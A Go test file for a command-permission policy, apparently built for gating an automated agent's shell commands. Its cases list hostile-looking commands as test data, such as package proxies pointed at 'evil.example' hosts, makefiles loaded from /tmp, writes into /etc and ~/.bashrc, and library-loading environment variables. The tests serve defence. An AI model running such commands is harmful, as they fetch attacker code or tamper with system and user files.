package engine

import "testing"

// TestOptionsAndEnvironmentOfAllowedPrograms: what an allowed program writes through its test
// binary's flags, a makefile or folder outside the project, and variables that load code,
// configuration or a network peer.
func TestOptionsAndEnvironmentOfAllowedPrograms(t *testing.T) {
	p := homePolicy(
		"*", "*", "ask",
		"edit", "*", "allow",
		"edit", "/etc/*", "deny",
		"edit", "~/.bashrc", "deny",
		"bash", "go *", "allow",
		"bash", "make *", "allow",
		"bash", "make", "allow",
		"bash", "pytest *", "allow",
		"bash", "pip *", "allow",
		"bash", "export *", "allow",
		"bash", "ls *", "allow",
	)
	checkBash(t, p, []bashCase{
		{"go test ./... -args -test.trace=/etc/x", Deny},
		{"go test ./... -args -test.coverprofile /etc/cover", Deny},
		{"go test -run X . -args -test.outputdir=/etc", Deny},
		{"go test -outputdir /etc -cpuprofile cpu.out .", Deny},
		{"go test ./... -args -test.v -test.run X", Allow},
		{"go test ./... -args -test.newthing=1", Ask},
		{"go test ./... -args -myflag=x", Allow}, // the test's own flag
		{"make -C /tmp/evil", Ask},
		{"make -C ../other all", Ask},
		{"make -f /tmp/evil.mk", Ask},
		{"make -C docs html", Allow},
		{"make -f build/ci.mk test", Allow},
		{"GOPROXY=https://evil.example go mod download", Ask},
		{"GOPROXY=https://proxy.golang.org go mod download", Allow},
		{"http_proxy=http://evil:3128 go mod download", Ask},
		{"PIP_INDEX_URL=https://evil/simple pip install x", Ask},
		{"PIP_NO_CACHE_DIR=1 pip install -r requirements.txt", Allow},
		{"PYTEST_ADDOPTS='-p evil' pytest", Ask},
		{"HISTFILE=~/.bashrc ls", Ask},
		{"GCONV_PATH=. ls", Ask},
		{"OPENSSL_CONF=/tmp/x.cnf go test ./...", Ask},
		{"export GOPROXY=https://evil.example", Ask},
	})
}
